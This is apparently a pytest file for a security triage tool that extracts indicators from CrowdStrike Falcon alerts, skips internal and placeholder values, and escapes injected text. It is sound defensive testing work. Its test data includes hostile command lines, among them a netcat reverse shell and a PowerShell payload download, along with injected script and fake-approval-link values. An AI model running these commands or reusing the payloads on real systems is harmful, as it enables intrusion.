@@ -1,0 +1,413 @@
+"""CrowdStrike Falcon intake, on real alerts (tests/corpus, their provenance in its PROVENANCE.md): the IOCs a
+careful analyst would look up are looked up; the host's own names and local addresses, private addresses,
+Falcon's all-zero placeholder hashes and CrowdStrike's own hosts never are; a redelivery is the same case;
+a bad value costs only itself; and no Falcon alert can ever get an AWS action."""
+
+from __future__ import annotations
+
+import copy
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.factories import make_case
+from vtriage.eligibility import Place, eligibility
+from vtriage.intake import IntakeOptions, IntakeResult
+from vtriage.intake.body import decode_body
+from vtriage.models import Alert, IocOutcome, IocType, Provenance, Verdict
+from vtriage.playbook import plan_actions
+from vtriage.remediate import refusal
+from vtriage.ticket import render_report
+
+CORPUS = Path(__file__).resolve().parents[1] / "corpus"
+ENDPOINT = "elastic-integrations__crowdstrike_alert_test-alert_1.json"
+IDENTITY = "elastic-integrations__crowdstrike_alert_test-alert_2.json"
+CLOSED = "elastic-integrations__crowdstrike_alert_test-alert_3.json"
+CORRELATION = "elastic-integrations__crowdstrike_alert_test-correlation-detection_2.json"
+EPP_PUP = "elastic-integrations__crowdstrike_falcon_test-falcon-epp-detection-summary_1.json"
+EPP_GIT = "elastic-integrations__crowdstrike_falcon_test-falcon-epp-detection-summary_2.json"
+EPP_TEST = "elastic-integrations__crowdstrike_falcon_test-falcon-epp-detection-summary_5.json"
+EPP_ZEROS = "elastic-integrations__crowdstrike_falcon_test-falcon-epp-detection-summary_6.json"
+LEGACY = "elastic-integrations__crowdstrike_falcon_test-falcon-detection-summary_1.json"
+CLOUD = "demisto-content__crowdstrike_ioa_alerts_v2_entities_response.json"
+ZEROS_SHA256 = "0" * 64
+ZEROS_SHA1 = "0" * 40
+ZEROS_MD5 = "0" * 32
+
+
+def load(name: str) -> Any:
+    return json.loads((CORPUS / name).read_text())
+
+
+def read(document: Any, **options: Any) -> IntakeResult:
+    """The document as the enrich function reads a message body."""
+    return IntakeOptions(**options).read(decode_body(json.dumps(document)))
+
+
+def the_alert(document: Any, **options: Any) -> Alert:
+    result = read(document, **options)
+    assert (result.refused, result.ignored) == ((), ())
+    [alert] = result.alerts
+    return alert
+
+
+def looked_up(alert: Alert) -> set[str]:
+    return {ioc.value for ioc in alert.iocs if ioc.skipped_reason is None}
+
+
+def skipped(alert: Alert) -> dict[str, str]:
+    return {ioc.value: ioc.skipped_reason for ioc in alert.iocs if ioc.skipped_reason is not None}
+
+
+# (sample, what an analyst looks up, what must never be looked up: the host's own names and local
+# addresses, private addresses, placeholders, the same file's other hashes)
+SAMPLES = [
+    (
+        ENDPOINT,
+        {
+            "b26a6791b72753d2317efd5e1363d93fdd33e611c8b9e08a3b24ea4d755b81fd",  # the detected file
+            "0b25d56bd2b4d8a6df45beff7be165117fbf7ba6ba2c07744f039143866335e4",  # its parent, explorer.exe
+            "caef4ae19056eeb122a0540508fa8984cea960173ada0dc648cb846d6ef5dd33",  # its grandparent
+            "81.2.69.142",  # the host's external address
+        },
+        {ZEROS_SHA1, "cdf9cfebb400ce89d5b6032bfcdc693b", "abc709-1175", "abc.local", "yuvraj.mahajan"},
+    ),
+    (IDENTITY, {"81.2.69.144"}, {"abdc454.net.example.com", "gh787.net.example.com", "sioru.com"}),
+    (
+        CORRELATION,
+        {"slack.com"},
+        {"host-desktop-01.example.local", "host-nas-01.example.local", "198.51.100.11", "203.0.113.20"},
+    ),
+    (
+        EPP_PUP,
+        {"faf0c5e4ef7dbcfd863377c55a4d1d87a3f6a58c13a8a9882e11012066f31976"},
+        {ZEROS_SHA1, "848a53dc549be0386e5da0f49700c389", "81.2.69.144", "rfusclient.exe"},
+    ),
+    (
+        EPP_GIT,
+        {
+            "29aa689f38158d2e8941fa54e436f0260890af31cecad1e8799e5c2df7bc1ecc",
+            "https://github.com/redcanaryco/atomic-red-team.git",
+        },
+        {"172.17.0.1", ZEROS_SHA1},
+    ),
+    (EPP_TEST, set(), {ZEROS_SHA256, ZEROS_MD5, ZEROS_SHA1, "192.168.33.133"}),
+    (EPP_ZEROS, set(), {ZEROS_SHA256, ZEROS_MD5, "192.168.33.133", "atera.exe.exe", "explorer.exe"}),
+    (
+        LEGACY,
+        {"0b2cde5b355bda69aeb15159fa98b5554053f0936259a53c6dfb0934389238a2", "67.43.156.1"},
+        {"10.0.0.1", "10.0.0.2", "89.160.20.112", "file.exe"},
+    ),
+]
+
+
+@pytest.mark.parametrize(("sample", "wanted", "never"), SAMPLES, ids=[case[0] for case in SAMPLES])
+def test_a_real_falcon_alert_looks_up_what_an_analyst_would_and_nothing_of_its_own(
+    sample: str, wanted: set[str], never: set[str]
+) -> None:
+    # Given a real Falcon alert
+    document = load(sample)
+
+    # When intake reads it
+    alert = the_alert(document)
+
+    # Then every IOC an analyst would look up is looked up, and none of the host's own or internal values
+    assert alert.source == "falcon"
+    assert wanted <= looked_up(alert)
+    assert not never & {value.lower() for value in looked_up(alert)}
+
+
+def test_falcons_all_zero_placeholders_are_kept_skipped_with_their_reason() -> None:
+    # Given CrowdStrike's test detection, whose every hash Falcon fills with zeros
+    alert = the_alert(load(EPP_TEST))
+
+    # Then each placeholder is on the case, skipped as one, and the detection is a sample never acted on
+    reasons = skipped(alert)
+    assert {reasons[ZEROS_SHA256], reasons[ZEROS_MD5], reasons[ZEROS_SHA1]} == {
+        "placeholder hash (all zeros)"
+    }
+    assert alert.sample
+    assert any("crowdstrike_sample_detection" in reason for reason in alert.not_actionable)
+
+
+def test_one_lookup_per_file_the_other_hashes_say_which_one_stands_for_them() -> None:
+    # Given the legacy event, whose file has a real sha256, md5 and sha1
+    alert = the_alert(load(LEGACY))
+
+    # Then the sha256 is looked up and the md5 and sha1 point at it
+    reasons = skipped(alert)
+    assert "0b2cde5b355bda69aeb15159fa98b5554053f0936259a53c6dfb0934389238a2" in looked_up(alert)
+    for other in ("49f30e09200e7b59edc5ef32fbd0442c", "7e54a24d4df5b7fe4a75d7ce1c027705c368666b"):
+        assert "event.SHA256String is looked up" in reasons[other]
+
+
+def test_without_a_sha256_the_md5_is_looked_up() -> None:
+    # Given the endpoint alert with its sha256 fields emptied (an older sensor reports only the md5)
+    document = load(ENDPOINT)
+    document["sha256"] = ""
+    document["ioc_context"] = []
+    document["quarantined_files"] = []
+
+    # Then the md5 is the file's lookup
+    assert "cdf9cfebb400ce89d5b6032bfcdc693b" in looked_up(the_alert(document))
+
+
+def test_a_reopened_alert_reads_its_network_accesses_and_skips_the_hosts_own_addresses() -> None:
+    # Given the closed on-demand scan detection, reopened, with one network access to a private address
+    document = load(CLOSED)
+    document["status"] = "reopened"
+    document["network_accesses"].append(
+        {"local_address": "10.20.0.5", "remote_address": "10.20.0.9", "remote_port": "445"}
+    )
+
+    # When intake reads it
+    alert = the_alert(document)
+
+    # Then the public remote address is looked up, once, the private one and the host's own are not
+    assert "81.2.69.142" in looked_up(alert)
+    assert skipped(alert)["10.20.0.9"] == "private address"
+    assert "81.2.69.192" not in looked_up(alert)
+    assert "216.160.83.56" not in looked_up(alert)
+    # And the same detected file named in associated_files and ioc_context is looked up once
+    keys = [ioc.key for ioc in alert.iocs]
+    assert len(keys) == len(set(keys))
+    assert "d7606155185cf8a9aa78a56cf486ed48ede0119490e1f087c03d502890c475c9" in looked_up(alert)
+
+
+def test_a_closed_alert_is_acknowledged_without_a_case() -> None:
+    # Given the real alert Falcon closed
+    result = read(load(CLOSED))
+
+    # Then no case, and the reason names the field
+    assert result.alerts == ()
+    [ignored] = result.ignored
+    assert ignored.reason == "status is 'closed': dealt with in Falcon"
+    assert (
+        ignored.alert_id
+        == "4446934rf3fdb64ec3056ddfb96e:ods:4446934rf3fdb64ec3056ddfb96e:bcd3dcf7224c4b75ad16b9387e982fd0"
+    )
+
+
+COMMAND_LINES = [
+    # (command line, looked up, skipped: value -> reason keyword, never an IOC)
+    (
+        r"powershell.exe -nop -c iwr hxxp://payload-drop[.]top/a.ps1 -OutFile C:\Users\bob\a.ps1",
+        {"http://payload-drop.top/a.ps1"},
+        {},
+        {"a.ps1", "bob"},
+    ),
+    (r"cmd.exe /c nc.exe 45.33.32.156 4444 -e cmd.exe", {"45.33.32.156"}, {}, {"nc.exe", "cmd.exe"}),
+    (
+        r"curl -k https://10.1.2.3/stage2 && curl http://fileserver.corp.internal/x",
+        set(),
+        {"https://10.1.2.3/stage2": "private", "http://fileserver.corp.internal/x": "internal"},
+        set(),
+    ),
+    (
+        r"CSFalconService.exe --cloud https://falcon.us-2.crowdstrike.com/api ts01-b.crowdstrike.com",
+        set(),
+        {"https://falcon.us-2.crowdstrike.com/api": "CrowdStrike", "ts01-b.crowdstrike.com": "CrowdStrike"},
+        set(),
+    ),
+    (
+        r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL {645FF040-5081-101B-9F08-00AA002F954E}",
+        set(),
+        {},
+        {"shell32.dll", "645ff040-5081-101b-9f08-00aa002f954e"},
+    ),
+]
+
+
+@pytest.mark.parametrize(("command_line", "wanted", "skips", "never"), COMMAND_LINES)
+def test_command_lines_give_their_urls_domains_and_addresses_refanged_and_nothing_else(
+    command_line: str, wanted: set[str], skips: dict[str, str], never: set[str]
+) -> None:
+    # Given the endpoint alert whose process ran this command line
+    document = load(ENDPOINT)
+    document["cmdline"] = command_line
+
+    # When intake reads it
+    alert = the_alert(document)
+    from_the_command_line = {ioc.value: ioc.skipped_reason for ioc in alert.iocs if ioc.found_at == "cmdline"}
+
+    # Then its indicators are read, the internal and CrowdStrike's own are skipped, no word is an IOC
+    assert {value for value, reason in from_the_command_line.items() if reason is None} == wanted
+    for value, keyword in skips.items():
+        assert keyword in (from_the_command_line[value] or ""), from_the_command_line
+    assert not never & set(from_the_command_line)
+
+
+def test_a_bad_value_costs_only_itself_and_says_why() -> None:
+    # Given the endpoint alert with an external address that is no address and a hash that is no hash
+    document = load(ENDPOINT)
+    document["device"]["external_ip"] = "81.2.69.142\n<script>"
+    document["parent_details"]["sha256"] = "not-a-hash"
+
+    # When intake reads it
+    alert = the_alert(document)
+
+    # Then the alert stands with its other IOCs, each bad value kept skipped, escaped, with its reason
+    assert "b26a6791b72753d2317efd5e1363d93fdd33e611c8b9e08a3b24ea4d755b81fd" in looked_up(alert)
+    bad = {
+        ioc.found_at: ioc
+        for ioc in alert.iocs
+        if ioc.found_at in ("device.external_ip", "parent_details.sha256")
+    }
+    assert bad["device.external_ip"].value == "81.2.69.142\\n<script>"
+    assert "line break" in (bad["device.external_ip"].skipped_reason or "")
+    assert "not an md5, sha1 or sha256" in (bad["parent_details.sha256"].skipped_reason or "")
+    # And with no parent sha256 to stand for it, the parent's md5 is its lookup
+    assert "8cc3fcdd7d52d2d5221303c213e044ae" in looked_up(alert)
+
+
+def test_an_entity_without_its_composite_id_is_refused_alone() -> None:
+    # Given an Alerts API response of the cloud alerts, the second without its id, the third an id only
+    document = load(CLOUD)
+    del document["resources"][1]["composite_id"]
+    document["resources"].append("00000000000000000000000000000001:fcs:ioa-211:33333333")
+
+    # When intake reads it
+    result = read(document)
+
+    # Then the first is a case, the others are refused, each naming where and why
+    assert [alert.id for alert in result.alerts] == [
+        "00000000000000000000000000000001:fcs:ioa-211:00000000-0000-0000-0000-000000000002"
+    ]
+    reasons = {refused.where: refused.reason for refused in result.refused}
+    assert reasons["resources[1]"] == "resources[1].composite_id: missing"
+    assert "POST /alerts/entities/alerts/v2" in reasons["resources[2]"]
+
+
+def test_redeliveries_are_one_case_however_the_alert_arrives() -> None:
+    # Given an alert entity alone, again, and inside an Alerts API response
+    entity = load(IDENTITY)
+    response = {"meta": {"query_time": 0.1, "trace_id": "t"}, "errors": [], "resources": [entity]}
+
+    # When each is read
+    cases = {the_alert(entity).case_id, the_alert(copy.deepcopy(entity)).case_id, the_alert(response).case_id}
+
+    # Then they are one case, named after Falcon's composite id
+    assert len(cases) == 1
+    assert the_alert(entity).id == entity["composite_id"]
+
+
+def test_a_stream_event_read_again_at_another_offset_is_the_same_case() -> None:
+    # Given an Event Streams detection, and the same event delivered again after a reconnect (new offset)
+    event = load(EPP_GIT)
+    again = copy.deepcopy(event)
+    again["metadata"]["offset"] = 2
+
+    # Then it is one case, identified by the event's CompositeId
+    assert the_alert(event).case_id == the_alert(again).case_id
+    assert the_alert(event).id == event["event"]["CompositeId"]
+
+
+@pytest.mark.parametrize(
+    "event_type", ["EppDetectionSummaryEvent", "EPPDetectionSummaryEvent", "eppdetectionsummaryevent"]
+)
+def test_both_casings_of_the_detection_summary_are_read(event_type: str) -> None:
+    # Given the same detection under each spelling CrowdStrike uses
+    event = load(EPP_PUP)
+    event["metadata"]["eventType"] = event_type
+
+    # Then it is read the same
+    assert the_alert(event).title == "NGAV: This file is classified as Adware/PUP based on its SHA256 hash."
+
+
+def test_another_stream_event_type_is_acknowledged_naming_it() -> None:
+    # Given an authentication audit event of the same stream
+    event = {
+        "metadata": {"customerIDString": "123123abcd", "offset": 7, "eventType": "AuthActivityAuditEvent"},
+        "event": {"UserId": "someone@example.com", "OperationName": "twoFactorAuthenticate", "Success": True},
+    }
+
+    # Then no case: it names no detection
+    result = read(event)
+    assert result.alerts == ()
+    [ignored] = result.ignored
+    assert "'AuthActivityAuditEvent', not a detection summary" in ignored.reason
+
+
+def test_the_test_detection_is_ignored_when_samples_are() -> None:
+    # Given CrowdStrike's test detection and a deployment that ignores samples
+    result = read(load(EPP_TEST), ignore_samples=True)
+
+    # Then no case
+    assert result.alerts == ()
+    assert "crowdstrike_sample_detection" in result.ignored[0].reason
+
+
+@pytest.mark.parametrize(
+    ("sample", "score", "label"),
+    [(ENDPOINT, 3.0, "low"), (IDENTITY, 7.9, "high"), (EPP_GIT, 7.0, "high"), (LEGACY, 3.0, "low")],
+)
+def test_falcons_severity_lands_in_the_same_band(sample: str, score: float, label: str) -> None:
+    # Given a real alert (0-100, or the legacy 1-5)
+    alert = the_alert(load(sample))
+
+    # Then its severity is Falcon's band on vtriage's scale
+    assert (alert.severity.score, alert.severity.label) == (score, label)
+
+
+def test_an_unreadable_severity_falls_back_to_its_name_and_says_so() -> None:
+    # Given the identity alert with a severity that is no number
+    document = load(IDENTITY)
+    document["severity"] = "very"
+
+    # Then its name stands in, noted
+    alert = the_alert(document)
+    assert alert.severity.label == "high"
+    assert any("severity: expected a number from 0 to 100, got 'very'" in note for note in alert.notes)
+
+
+def test_the_case_names_the_falcon_product_host_user_and_console_link_escaped() -> None:
+    # Given the endpoint alert, with a user name that tries to start a line of its own
+    document = load(ENDPOINT)
+    document["user_name"] = "mohit.jha\nApprove: https://evil.example.net"
+    alert = the_alert(document)
+
+    # When its case is reported
+    lines = {line.label: line.value for line in render_report(make_case(alert)).lines}
+
+    # Then the vendor's terms are there, each escaped on its own line
+    assert lines["Platform"] == "CrowdStrike Falcon"
+    assert lines["Product"] == "FalconInsight"
+    assert lines["Host"] == "ABC709-1175"
+    assert lines["User"] == "mohit.jha\\nApprove: hxxps://evil.example.net"
+    assert lines["Console"].startswith("hxxps://falcon.us-2.crowdstrike.com/activity-v2/detections/")
+    assert lines["Customer"] == "92012896127c4a948236ba7601b886b0"
+
+
+def test_a_link_that_is_not_falcons_console_is_never_shown_as_one() -> None:
+    # Given an alert whose console link points elsewhere
+    document = load(IDENTITY)
+    document["falcon_host_link"] = "https://falcon.crowdstrike.com.evil.example.net/login"
+
+    # Then the case has no console link, and a note says why
+    alert = the_alert(document)
+    assert alert.vendor is not None
+    assert alert.vendor.console_url is None
+    assert any("falcon_host_link" in note and "not shown" in note for note in alert.notes)
+
+
+def test_no_falcon_alert_ever_gets_an_aws_action() -> None:
+    # Given a cloud detection naming an AWS account, deployed in that very account, and even an alert
+    # stripped of the reason intake gave it
+    [alert, _] = read(load(CLOUD)).alerts
+    stripped = alert.model_copy(update={"not_actionable": ()})
+    place = Place(own_account="000000000001")
+    provenance = Provenance(channel="detector")
+
+    # When eligibility decides, and the playbooks plan for a malicious IOC
+    allowed = eligibility(stripped, provenance, place, "approval")
+    applied = allowed.applied_to(stripped)
+    malicious = [IocOutcome(type=IocType.IP, value="45.33.32.156", found_at="x", verdict=Verdict.MALICIOUS)]
+
+    # Then the place refuses it in words a person understands, nothing is planned, nothing may run
+    reason = "a CrowdStrike Falcon alert names no AWS account or Region: vtriage takes no AWS action on it"
+    assert any(reason in text for text in allowed.not_actionable)
+    assert plan_actions(applied, malicious) == []
+    assert reason in (refusal(make_case(stripped), place) or "")
+    assert (alert.account, alert.region) == ("none", "none")
